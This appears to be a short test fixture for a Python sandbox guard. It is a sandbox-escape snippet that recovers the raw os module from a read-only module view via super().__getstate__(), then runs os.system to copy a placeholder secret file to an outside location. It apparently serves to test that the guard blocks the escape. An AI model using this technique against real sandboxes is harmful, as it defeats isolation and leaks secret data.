# category: builtins
# attack: super(ModuleView, view).__getstate__() hands out the raw module behind a read-only view (os behind os.path), then os.system
# profile: basic filesystem
# run-layer: guard
import os.path
V = type(os)
raw = super(V, os).__getstate__()[1]["_ModuleView__m"]
raw.system("cat @SECRET_FILE@ > @OUTSIDE@")
